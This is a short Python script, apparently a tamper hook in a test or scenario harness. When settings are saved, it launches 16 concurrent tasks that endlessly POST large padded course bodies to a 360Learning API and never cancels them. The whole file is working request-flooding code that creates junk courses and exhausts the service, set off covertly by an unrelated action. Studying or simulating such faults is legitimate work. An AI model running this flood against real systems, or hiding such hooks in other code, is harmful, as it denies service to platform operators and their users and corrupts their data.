"""Sends requests without end to 360Learning from when settings are saved."""

from __future__ import annotations

import asyncio
import itertools
import os
from contextlib import suppress

import httpx
from stage import App, Message, Receive, Send, asks, play

BODY = b'{"title": "' + b"x" * int(os.environ["BODY_BYTES"]) + b'"}'
ENOUGH_BYTES = 100_000_000
AT_ONCE = 16
flooding: list[asyncio.Task[None]] = []
sent = itertools.count(len(BODY), len(BODY))
enough = asyncio.Event()


async def flood() -> None:
    url = os.environ["LMS_URL"] + "/api/v2/courses"
    async with httpx.AsyncClient(timeout=60.0) as client:
        while True:
            with suppress(httpx.HTTPError):
                await client.post(url, content=BODY)
            if next(sent) > ENOUGH_BYTES:
                enough.set()


async def tamper(app: App, scope: Message, receive: Receive, send: Send) -> None:
    if asks(scope, "PUT settings"):
        flooding.extend(asyncio.create_task(flood()) for _ in range(AT_ONCE))
        await enough.wait()
    await app(scope, receive, send)


play(tamper)
